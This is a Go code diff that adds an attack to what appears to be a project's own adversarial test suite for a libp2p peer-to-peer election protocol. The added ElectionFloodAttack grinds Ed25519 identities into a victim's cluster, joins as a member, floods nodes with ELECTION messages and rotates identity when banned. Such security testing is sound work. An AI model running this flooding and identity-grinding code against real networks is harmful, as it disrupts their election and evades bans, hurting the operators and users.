@@ -8,8 +8,11 @@ import (
 	"sync/atomic"
 	"time"
 
+	"github.com/libp2p/go-libp2p"
 	pubsub "github.com/libp2p/go-libp2p-pubsub"
+	"github.com/libp2p/go-libp2p/core/crypto"
 	"github.com/libp2p/go-libp2p/core/host"
+	"github.com/libp2p/go-libp2p/core/network"
 	"github.com/libp2p/go-libp2p/core/peer"
 	"github.com/libp2p/go-libp2p/core/protocol"
 
@@ -158,4 +161,119 @@ func sendElection(ctx context.Context, h host.Host, p peer.ID, proto protocol.ID
 		return false
 	}
 	return s.Close() == nil
+}
+
+// ElectionFloodAttack is issue 19's finding 1 as an attack of the live
+// suite (Attack.Run): it learns the victim's k from its announcement on
+// the membership topic, grinds an identity in the victim's cluster ranked
+// below it (its key shares the victim's k-bit prefix and is farther from
+// the cluster key), becomes a member (JoinAsMember) and sends every node
+// of the swarm ELECTION 45 times a second (the victim and its cluster's
+// members take them; the others drop them, from a non-member). When the
+// victim bans the identity it starts again under a fresh one, until ctx
+// ends.
+func ElectionFloodAttack(ctx context.Context, t Target) error {
+	k, err := victimK(ctx, t)
+	if err != nil {
+		return err
+	}
+	vk := dhtselect.KeyOf(t.Victim.ID)
+	cluster := vk.Cluster(k)
+	var targets []peer.ID
+	for _, n := range t.Nodes {
+		targets = append(targets, n.ID)
+	}
+	for ctx.Err() == nil {
+		priv, err := grind(func(key dhtselect.Key) bool {
+			return key.Cluster(k) == cluster && dhtselect.Closer(vk, key, cluster)
+		})
+		if err != nil {
+			return err
+		}
+		h, err := NewHost(libp2p.Identity(priv))
+		if err != nil {
+			return err
+		}
+		for _, n := range t.Nodes {
+			_ = h.Connect(ctx, n)
+		}
+		m, err := JoinAsMember(ctx, h, t.Network, k, time.Second)
+		if err == nil {
+			fctx, stop := context.WithCancel(ctx)
+			_, wait := ElectionFlood(fctx, h, t.Network, targets, 45, classic.Message{Type: classic.MsgElection})
+			for fctx.Err() == nil && h.Network().Connectedness(t.Victim.ID) == network.Connected {
+				select {
+				case <-fctx.Done():
+				case <-time.After(100 * time.Millisecond):
+				}
+			}
+			stop()
+			wait()
+			_ = m.Close()
+		}
+		_ = h.Close()
+		select {
+		case <-ctx.Done():
+		case <-time.After(100 * time.Millisecond):
+		}
+	}
+	return nil
+}
+
+// victimK reads the victim's k from its announcement on the membership
+// topic (as any member can), joining the topic with a throwaway host.
+func victimK(ctx context.Context, t Target) (int, error) {
+	h, err := NewHost()
+	if err != nil {
+		return 0, err
+	}
+	defer h.Close()
+	ps, err := pubsub.NewGossipSub(ctx, h)
+	if err != nil {
+		return 0, fmt.Errorf("attack: gossipsub: %w", err)
+	}
+	for _, n := range t.Nodes {
+		_ = h.Connect(ctx, n)
+	}
+	topic, err := ps.Join(gossip.MembershipTopic(t.Network))
+	if err != nil {
+		return 0, fmt.Errorf("attack: join the membership topic: %w", err)
+	}
+	defer topic.Close()
+	sub, err := topic.Subscribe()
+	if err != nil {
+		return 0, fmt.Errorf("attack: subscribe to the membership topic: %w", err)
+	}
+	defer sub.Cancel()
+	for {
+		msg, err := sub.Next(ctx)
+		if err != nil {
+			return 0, fmt.Errorf("attack: no announcement of the victim %s: %w", t.Victim.ID, err)
+		}
+		if msg.GetFrom() != t.Victim.ID {
+			continue
+		}
+		if a, err := gossip.DecodeAnnouncement(msg.GetFrom(), msg.Data); err == nil {
+			return a.K, nil
+		}
+	}
+}
+
+// grind draws Ed25519 identities until one's Kademlia key satisfies ok
+// (a million draws at most).
+func grind(ok func(dhtselect.Key) bool) (crypto.PrivKey, error) {
+	for range 1 << 20 {
+		priv, _, err := crypto.GenerateEd25519Key(nil)
+		if err != nil {
+			return nil, err
+		}
+		id, err := peer.IDFromPrivateKey(priv)
+		if err != nil {
+			return nil, err
+		}
+		if ok(dhtselect.KeyOf(id)) {
+			return priv, nil
+		}
+	}
+	return nil, fmt.Errorf("attack: no identity found in a million draws")
 }
